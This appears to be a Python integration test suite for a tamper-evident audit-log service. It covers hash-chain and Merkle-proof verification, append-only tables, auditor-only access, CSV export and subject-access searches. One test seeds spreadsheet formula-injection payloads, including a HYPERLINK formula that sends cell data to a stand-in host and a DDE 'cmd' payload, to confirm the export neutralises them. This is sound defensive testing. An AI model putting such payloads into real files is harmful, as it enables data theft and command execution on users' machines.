"""The audit service against the real PostgreSQL and Kafka: exactly once, append-only,
tamper-evident, proofs that verify, auditor-only access, exports and subject access.

The module gets its own database: some tests rewrite rows as the owner (and put them back).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import secrets
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta

import asyncpg
import httpx
import pytest
from pydantic import SecretStr
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError

from schemas import topics
from schemas.disclosures import DisclosureRecorded
from schemas.envelope import Envelope, wrap
from services.audit import cli
from services.audit.chain import EntryDraft, hash_entry
from services.audit.heads import AUDIT_HEADS, read_heads_file
from services.audit.log import Context, append_entries
from services.audit.main import build_app
from services.audit.merkle import leaf_hash, verify_consistency, verify_inclusion
from services.audit.models import audit_events
from services.audit.settings import AuditSettings
from services.audit.tree_head import (
    TreeHead,
    generate_keypair,
    load_private_key,
    verify_tree_head,
)
from services.cli import retention_run
from services.common.db import service_engine
from services.common.kafka import ensure_topics, make_producer
from services.common.pseudonym import child_key, child_key_v1, child_key_v3
from services.common.security import Principal
from services.common.settings import TopicLayout
from tests.support.api import running
from tests.support.audit import owner, tamper
from tests.support.db import create_test_database, drop_test_database, service_urls
from tests.support.ids import next_urn
from tests.support.kafka import read_topic
from tests.support.tokens import bearer, trusting

pytestmark = pytest.mark.integration
CHILD_SECRET = secrets.token_hex(32)
AUDITOR = Principal(subject="auditor-7", kind="user", role="auditor",
                    scopes=frozenset({"audit:read"}))
DSL = Principal(subject="dsl-1", kind="user", role="dsl",
                scopes=frozenset({"notifications:read", "notifications:ack"}),
                school_urns=frozenset({"103456"}))


@pytest.fixture(scope="module")
async def audit_db() -> AsyncIterator[dict[str, str]]:
    urls = await create_test_database()
    yield urls
    await drop_test_database(urls)


@pytest.fixture(scope="module")
def signing_key() -> str:
    return generate_keypair().private_key


@pytest.fixture(scope="module")
def heads_file(tmp_path_factory):
    return tmp_path_factory.mktemp("audit") / "tree-heads.jsonl"


@pytest.fixture
def settings(audit_db, kafka_bootstrap, topic_prefix, signing_key, heads_file, session_keystore):
    return AuditSettings(
        env="test", **service_urls(audit_db), kafka_bootstrap=kafka_bootstrap,
        topic_prefix=topic_prefix, child_key_secret=CHILD_SECRET, **trusting(),
        cookie_secure=False, db_pool_size=5, kafka_partitions=2,
        audit_signing_key=signing_key, audit_heads_file=heads_file,
        audit_sign_every=5, audit_sign_interval_s=0.5,
        # `daybreak retention run` purges as the notifier too, which holds the keystore (the
        # session's, never shredded by a test)
        **session_keystore.settings(), shred_expired_keys=False,
    )


@pytest.fixture
async def engine(settings):
    """The audit service's own role on this module's own database."""
    engine = service_engine(settings, "audit", pool_size=4)
    yield engine
    await engine.dispose()


def disclosure(*, school: str, key: str | None = None, action: str = "notification.viewed"):
    disclosure_id = uuid.uuid4()
    event = DisclosureRecorded(
        disclosure_id=disclosure_id, at=datetime.now(UTC), actor="dsl-1", actor_role="dsl",
        action=action, channel="portal", purpose="safeguarding", school_urn=school,
        child_key=key or secrets.token_hex(32), notification_id=uuid.uuid4(),
        incident_id=uuid.uuid4(),
    )
    return wrap(event, event_id=disclosure_id)


async def publish(settings, envelopes: list[Envelope]) -> None:
    topic = settings.topic(topics.DISCLOSURES)
    await ensure_topics(settings.kafka(), [topic, f"{topic}.dlq"],
                        layout=TopicLayout(partitions=2))
    producer = make_producer(settings.kafka())
    await producer.start()
    try:
        for envelope in envelopes:
            await producer.send_and_wait(topic, envelope.to_bytes(),
                                         key=envelope.payload.child_key.encode())
    finally:
        await producer.stop()


async def count_for(engine, school: str) -> int:
    async with engine.connect() as conn:
        return (await conn.execute(select(func.count()).where(
            audit_events.c.school_urn == school))).scalar_one()


async def wait_for_count(engine, school: str, expected: int, timeout_s: float = 30) -> int:
    deadline = asyncio.get_running_loop().time() + timeout_s
    while (n := await count_for(engine, school)) < expected:
        if asyncio.get_running_loop().time() > deadline:
            break
        await asyncio.sleep(0.1)
    return n


async def seed(engine, school: str, n: int, *, key: str | None = None) -> list[EntryDraft]:
    drafts = [EntryDraft(
        id=uuid.uuid4(), at=datetime.now(UTC), actor="officer-1", actor_role="la_officer",
        action="review.viewed", channel="portal", school_urn=school,
        child_key=key or secrets.token_hex(32), notification_id=None, purpose="review",
    ) for _ in range(n)]
    async with engine.begin() as conn:
        await append_entries(conn, [(d, Context(la_code="E08")) for d in drafts])
    return drafts


async def verify_api(client: httpx.AsyncClient, settings) -> dict:
    resp = await client.get("/v1/audit/verify", headers=bearer(AUDITOR))
    assert resp.status_code == 200, resp.text
    return resp.json()


async def test_redelivered_disclosure_is_logged_once(settings, engine) -> None:
    school, key = next_urn(), secrets.token_hex(32)
    first, sentinel = disclosure(school=school, key=key), disclosure(school=school, key=key)
    async with running(build_app(settings)):
        # same key, same partition: the sentinel is handled after both copies
        await publish(settings, [first, first, sentinel])
        assert await wait_for_count(engine, school, 2) == 2
        await asyncio.sleep(1)
    assert await count_for(engine, school) == 2


async def test_outage_backlog_is_caught_up_with_nothing_lost(settings, engine) -> None:
    school = next_urn()
    async with running(build_app(settings)):
        await publish(settings, [disclosure(school=school) for _ in range(3)])
        assert await wait_for_count(engine, school, 3) == 3
    await publish(settings, [disclosure(school=school) for _ in range(4)])  # service down
    await asyncio.sleep(0.5)
    assert await count_for(engine, school) == 3
    async with running(build_app(settings)) as client:
        assert await wait_for_count(engine, school, 7) == 7
        report = await verify_api(client, settings)
    assert report["ok"], report
    async with engine.connect() as conn:
        seqs = (await conn.execute(select(audit_events.c.seq).order_by(
            audit_events.c.seq))).scalars().all()
    assert seqs == list(range(1, len(seqs) + 1))


async def test_app_role_and_owner_cannot_change_or_remove_entries(
    settings, engine, audit_db
) -> None:
    await seed(engine, next_urn(), 1)
    for statement in ("UPDATE audit.audit_events SET purpose = 'x'",
                      "DELETE FROM audit.audit_events", "TRUNCATE audit.audit_events",
                      "DELETE FROM audit.audit_tree_heads"):
        with pytest.raises(DBAPIError, match="permission denied"):
            async with engine.begin() as conn:
                await conn.execute(text(statement))
    conn = await owner(audit_db)
    try:
        for statement in ("UPDATE audit.audit_events SET purpose = 'x'",
                          "DELETE FROM audit.audit_events", "TRUNCATE audit.audit_events",
                          "TRUNCATE audit.audit_tree_heads",
                          "UPDATE audit.audit_tree_heads SET key_id = 'x'"):
            with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
                await conn.execute(statement)
    finally:
        await conn.close()
    async with engine.connect() as c:
        assert (await c.execute(select(func.count()).select_from(audit_events))).scalar_one()


async def test_edited_row_is_named_by_verify_and_the_cli(settings, engine, audit_db) -> None:
    drafts = await seed(engine, next_urn(), 5)
    async with running(build_app(settings)) as client:
        auditor = bearer(AUDITOR)
        # a signed head over these rows first: the tree must hold them before the edit
        resp = await client.get(f"/v1/audit/events/{drafts[-1].id}/proof", headers=auditor)
        assert resp.status_code == 200, resp.text
        assert (await verify_api(client, settings))["ok"]
        victim = drafts[2]
        await tamper(audit_db,
                     "UPDATE audit.audit_events SET purpose = 'nothing to see' WHERE id = $1",
                     victim.id)
        try:
            report = await verify_api(client, settings)
            assert not report["ok"]
            assert report["first_bad"] == str(victim.id)
            assert "hash does not match" in report["reason"]
            assert await asyncio.to_thread(cli.verify, settings) == 1
        finally:
            await tamper(audit_db, "UPDATE audit.audit_events SET purpose = $2 WHERE id = $1",
                         victim.id, victim.purpose)
        assert (await verify_api(client, settings))["ok"]
    assert await asyncio.to_thread(cli.verify, settings) == 0


async def test_rewritten_chain_is_caught_by_the_signed_head(settings, engine, audit_db) -> None:
    drafts = await seed(engine, next_urn(), 3)
    async with running(build_app(settings)) as client:
        auditor = bearer(AUDITOR)
        resp = await client.get(f"/v1/audit/events/{drafts[-1].id}/proof", headers=auditor)
        assert resp.status_code == 200, resp.text
        async with engine.connect() as conn:
            last = (await conn.execute(select(audit_events).order_by(
                audit_events.c.seq.desc()).limit(1))).one()
        assert last.id == drafts[-1].id
        forged = dict(last._mapping) | {"purpose": "rewritten"}
        forged_hash = hash_entry(forged, last.prev_hash)  # chain-consistent, head-inconsistent
        await tamper(audit_db, "UPDATE audit.audit_events SET purpose = 'rewritten', hash = $2 "
                     "WHERE id = $1", last.id, forged_hash)
        try:
            report = await verify_api(client, settings)
            assert not report["ok"]
            assert "tree head" in report["reason"] and report["first_bad"] is not None
        finally:
            await tamper(audit_db, "UPDATE audit.audit_events SET purpose = $2, hash = $3 "
                         "WHERE id = $1", last.id, last.purpose, last.hash)
        assert (await verify_api(client, settings))["ok"]


async def test_deleted_row_is_detected(settings, engine, audit_db) -> None:
    drafts = await seed(engine, next_urn(), 3)
    async with engine.connect() as conn:
        row = (await conn.execute(select(audit_events).where(
            audit_events.c.id == drafts[1].id))).one()
    async with running(build_app(settings)) as client:
        await tamper(audit_db, "DELETE FROM audit.audit_events WHERE id = $1", row.id)
        try:
            report = await verify_api(client, settings)
            assert not report["ok"]
            assert report["first_bad"] == str(drafts[2].id)
            assert f"seq {row.seq} missing" in report["reason"]
        finally:
            values = dict(row._mapping)
            columns = ", ".join(values)
            params = ", ".join(f"${i}" for i in range(1, len(values) + 1))
            await tamper(audit_db, f"INSERT INTO audit.audit_events ({columns}) VALUES ({params})",
                         *values.values())
        assert (await verify_api(client, settings))["ok"]


async def test_inclusion_and_consistency_proofs_verify(settings, engine) -> None:
    first = await seed(engine, next_urn(), 2)
    async with running(build_app(settings)) as client:
        auditor = bearer(AUDITOR)
        early = (await client.get(f"/v1/audit/events/{first[0].id}/proof",
                                  headers=auditor)).json()
        later_rows = await seed(engine, next_urn(), 3)
        resp = await client.get(f"/v1/audit/events/{later_rows[1].id}/proof", headers=auditor)
        assert resp.status_code == 200, resp.text
        body = resp.json()
        async with engine.connect() as conn:
            stored = (await conn.execute(select(audit_events.c.hash).where(
                audit_events.c.id == later_rows[1].id))).scalar_one()
        assert verify_inclusion(
            leaf_hash(bytes.fromhex(stored)), body["leaf_index"], body["tree_size"],
            [bytes.fromhex(p) for p in body["proof"]], bytes.fromhex(body["root_hash"]))
        signed = body["signed_head"]
        head = TreeHead(signed["tree_size"], signed["root_hash"],
                        datetime.fromisoformat(signed["signed_at"]))
        public = load_private_key(settings.audit_signing_key.get_secret_value()).public_key()
        assert verify_tree_head(head, bytes.fromhex(signed["signature"]), public)

        m, n = early["tree_size"], body["tree_size"]
        resp = await client.get(f"/v1/audit/consistency?from={m}&to={n}", headers=auditor)
        assert resp.status_code == 200, resp.text
        c = resp.json()
        assert verify_consistency(m, n, bytes.fromhex(c["from_root"]), bytes.fromhex(c["to_root"]),
                                  [bytes.fromhex(p) for p in c["proof"]])
        missing = await client.get(f"/v1/audit/events/{uuid.uuid4()}/proof", headers=auditor)
        assert missing.status_code == 404
    # the heads left the database: a file line and a message on audit-heads.v1
    sizes = {h.tree_size for h in read_heads_file(settings.audit_heads_file)}
    assert {m, n} <= sizes
    records = await read_topic(settings.kafka(), settings.topic(AUDIT_HEADS), at_least=2)
    published = {json.loads(r.value)["payload"]["tree_size"] for r in records}
    assert {m, n} <= published


async def test_only_auditors_may_read_the_log(settings) -> None:
    routes = [("GET", "/v1/audit/events"), ("GET", "/v1/audit/events.csv"),
              ("GET", "/v1/audit/verify"), ("GET", f"/v1/audit/events/{uuid.uuid4()}/proof"),
              ("GET", "/v1/audit/consistency?from=1&to=2"),
              ("POST", "/v1/audit/subject-access")]
    body = {"given_name": "Amelia", "family_name": "Khan", "date_of_birth": "2016-03-02"}
    async with running(build_app(settings)) as client:
        for method, path in routes:
            kw = {"json": body} if method == "POST" else {}
            assert (await client.request(method, path, **kw)).status_code == 401, path
            resp = await client.request(method, path, headers=bearer(DSL, audience=["audit"]), **kw)
            assert resp.status_code == 403, path
        resp = await client.get("/v1/audit/events?limit=1", headers=bearer(AUDITOR))
        assert resp.status_code == 200


async def test_events_page_with_an_opaque_cursor(settings, engine) -> None:
    school = next_urn()
    drafts = await seed(engine, school, 7)
    async with running(build_app(settings)) as client:
        auditor = bearer(AUDITOR)
        seen, cursor = [], None
        while True:
            params = {"school_urn": school, "limit": 3} | ({"cursor": cursor} if cursor else {})
            resp = await client.get("/v1/audit/events", params=params, headers=auditor)
            assert resp.status_code == 200, resp.text
            page = resp.json()
            seen.append([e["id"] for e in page["events"]])
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert [len(p) for p in seen] == [3, 3, 1]
        ids = [i for p in seen for i in p]
        assert ids == [str(d.id) for d in drafts]
        bad = await client.get("/v1/audit/events", params={"cursor": "nope"}, headers=auditor)
        assert bad.status_code == 400
        later = datetime.now(UTC) + timedelta(hours=1)
        resp = await client.get("/v1/audit/events", headers=auditor, params={
            "school_urn": school, "from": later.isoformat()})
        assert resp.json()["events"] == []
    # each read was itself logged, against the auditor
    async with engine.connect() as conn:
        reads = (await conn.execute(select(func.count()).where(
            audit_events.c.actor == AUDITOR.subject,
            audit_events.c.action == "audit.events.read",
            audit_events.c.school_urn == school))).scalar_one()
    assert reads == 4  # three pages and the empty time window


async def test_csv_export_streams_the_filtered_rows(settings, engine) -> None:
    school = next_urn()
    drafts = await seed(engine, school, 4)
    async with running(build_app(settings)) as client, client.stream(
        "GET", "/v1/audit/events.csv", params={"school_urn": school},
        headers=bearer(AUDITOR),
    ) as resp:
        assert resp.status_code == 200
        assert resp.headers["content-type"].startswith("text/csv")
        content = "".join([chunk async for chunk in resp.aiter_text()])
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [r["id"] for r in rows] == [str(d.id) for d in drafts]
    assert rows[0]["la_code"] == "E08" and len(rows[0]["hash"]) == 64
    async with engine.connect() as conn:
        export = (await conn.execute(select(audit_events).where(
            audit_events.c.action == "audit.events.export",
            audit_events.c.school_urn == school))).one()
    assert export.channel == "export" and export.actor == AUDITOR.subject


async def test_subject_access_finds_exactly_that_childs_events(settings, engine) -> None:
    born = date(2016, 3, 2)
    amelia = child_key(CHILD_SECRET, given_name="Amélia", family_name="Khan", date_of_birth=born)
    other = child_key(CHILD_SECRET, given_name="Amelia", family_name="Khan",
                      date_of_birth=date(2016, 3, 3))
    mine = await seed(engine, next_urn(), 3, key=amelia)
    await seed(engine, next_urn(), 2, key=other)
    async with running(build_app(settings)) as client:
        resp = await client.post("/v1/audit/subject-access", headers=bearer(AUDITOR),
                                 json={"given_name": "Amelia", "family_name": "KHAN",
                                       "date_of_birth": born.isoformat()})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["child_key"] == amelia
    assert [e["id"] for e in body["events"]] == [str(d.id) for d in mine]
    async with engine.connect() as conn:
        logged = (await conn.execute(select(audit_events).where(
            audit_events.c.child_key == amelia,
            audit_events.c.action == "audit.subject_access"))).one()
        names = (await conn.execute(select(func.count()).where(
            audit_events.c.purpose.ilike("%amelia%")))).scalar_one()
    assert logged.actor == AUDITOR.subject and names == 0


async def subject_access(settings, given: str, family: str, born: date) -> dict:
    async with running(build_app(settings)) as client:
        resp = await client.post("/v1/audit/subject-access", headers=bearer(AUDITOR),
                                 json={"given_name": given, "family_name": family,
                                       "date_of_birth": born.isoformat()})
    assert resp.status_code == 200, resp.text
    return resp.json()


async def test_subject_access_finds_entries_logged_under_a_v1_key(settings, engine) -> None:
    born = date(2015, 7, 14)
    names = {"given_name": "Zoë", "family_name": "Wąsik", "date_of_birth": born}
    old, new = child_key_v1(CHILD_SECRET, **names), child_key(CHILD_SECRET, **names)
    assert old != new and new.startswith("v2:")
    before = await seed(engine, next_urn(), 2, key=old)  # logged before the upgrade
    after = await seed(engine, next_urn(), 1, key=new)
    await seed(engine, next_urn(), 2, key=child_key_v1(
        CHILD_SECRET, given_name="Zoe", family_name="Wasik", date_of_birth=date(2015, 7, 15)))
    body = await subject_access(settings, "Zoe", "WASIK", born)
    assert body["versions_searched"] == ["v2", "v1"]
    assert body["child_key"] == new and body["child_keys"] == {"v2": new, "v1": old}
    assert [e["id"] for e in body["events"]] == [str(d.id) for d in before + after]


async def test_a_non_latin_childs_subject_access_skips_the_shared_v1_key(
    settings, engine,
) -> None:
    born = date(2015, 9, 1)
    anna = child_key(CHILD_SECRET, given_name="Анна", family_name="Петрова", date_of_birth=born)
    mine = await seed(engine, next_urn(), 2, key=anna)
    # v1 folded every non-Latin name to nothing: this is Мария's v1 key, and Анна's too
    shared = child_key_v1(CHILD_SECRET, given_name="Мария", family_name="Иванова",
                          date_of_birth=born)
    assert shared == child_key_v1(CHILD_SECRET, given_name="Анна", family_name="Петрова",
                                  date_of_birth=born)
    await seed(engine, next_urn(), 3, key=shared)
    body = await subject_access(settings, "Анна", "ПЕТРОВА", born)
    assert body["versions_searched"] == ["v2"] and body["child_keys"] == {"v2": anna}
    assert [e["id"] for e in body["events"]] == [str(d.id) for d in mine]


async def test_the_events_filter_takes_a_key_of_either_version(settings, engine) -> None:
    names = {"given_name": "Amelia", "family_name": "Nowak", "date_of_birth": date(2014, 1, 5)}
    old, new = child_key_v1(CHILD_SECRET, **names), child_key(CHILD_SECRET, **names)
    logged = {old: await seed(engine, next_urn(), 2, key=old),
              new: await seed(engine, next_urn(), 1, key=new)}
    async with running(build_app(settings)) as client:
        for key, drafts in logged.items():
            resp = await client.get("/v1/audit/events", params={"child_key": key},
                                    headers=bearer(AUDITOR))
            assert resp.status_code == 200, resp.text
            assert [e["id"] for e in resp.json()["events"]] == [str(d.id) for d in drafts]


async def test_retention_run_records_itself_and_purges_nothing(settings, engine) -> None:
    async with engine.connect() as conn:
        before = (await conn.execute(select(func.count()).select_from(audit_events))).scalar_one()
    assert await asyncio.to_thread(retention_run, settings) == 0
    async with engine.connect() as conn:
        after = (await conn.execute(select(func.count()).select_from(audit_events))).scalar_one()
        run = (await conn.execute(select(audit_events).where(
            audit_events.c.action == "retention.run"))).one()
    assert after == before + 1 and run.channel == "cli"
    assert await asyncio.to_thread(cli.verify, settings) == 0


async def test_the_csv_export_opens_as_text_in_a_spreadsheet(settings, engine) -> None:
    school = next_urn()
    drafts = [EntryDraft(
        id=uuid.uuid4(), at=datetime.now(UTC), actor=actor, actor_role="la_officer",
        action="review.viewed", channel="portal", school_urn=school,
        child_key=secrets.token_hex(32), notification_id=None, purpose=purpose,
    ) for actor, purpose in (('=HYPERLINK("http://x.example/?"&A1,"x")', "@SUM(1+1)"),
                             ("+cmd|' /C calc'!A0", "-2+3"), ("\tofficer", "review"))]
    async with engine.begin() as conn:
        await append_entries(conn, [(d, Context(la_code="E08")) for d in drafts])
    async with running(build_app(settings)) as client, client.stream(
        "GET", "/v1/audit/events.csv", params={"school_urn": school}, headers=bearer(AUDITOR),
    ) as resp:
        content = "".join([chunk async for chunk in resp.aiter_text()])
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [(r["actor"], r["purpose"]) for r in rows] == [
        ('\'=HYPERLINK("http://x.example/?"&A1,"x")', "'@SUM(1+1)"),
        ("'+cmd|' /C calc'!A0", "'-2+3"), ("'\tofficer", "review")]


@pytest.mark.parametrize("params", [
    {"child_key": "=1+1"}, {"child_key": "A" * 64}, {"child_key": "v2:" + "0" * 60},
    {"school_urn": "=cmd"}, {"school_urn": "12345"}, {"school_urn": "10345a"},
])
async def test_filters_that_are_not_a_key_or_a_urn_are_refused(settings, params) -> None:
    async with running(build_app(settings)) as client:
        for path in ("/v1/audit/events", "/v1/audit/events.csv"):
            resp = await client.get(path, params=params, headers=bearer(AUDITOR))
            assert resp.status_code == 422, resp.text
            assert resp.headers["content-type"].startswith("application/problem+json")


async def test_after_a_rotation_subject_access_finds_entries_under_every_secret(
    settings, engine,
) -> None:
    born = date(2015, 2, 3)
    names = {"given_name": "Maya", "family_name": "Osei", "date_of_birth": born}
    rotated = settings.model_copy(update={"child_key_secrets": SecretStr(
        json.dumps({"k2": "n" * 40, "k1": "o" * 40}))})
    before = await seed(engine, next_urn(), 1, key=child_key(CHILD_SECRET, **names))
    between = await seed(engine, next_urn(), 1, key=child_key_v3("o" * 40, "k1", **names))
    now = child_key(rotated.child_keys(), **names)
    after = await seed(engine, next_urn(), 1, key=now)
    body = await subject_access(rotated, "Maya", "Osei", born)
    assert now.startswith("v3:k2:") and body["child_key"] == now
    assert body["versions_searched"] == ["v3:k2", "v3:k1", "v2", "v1"]
    assert [e["id"] for e in body["events"]] == [str(d.id) for d in before + between + after]
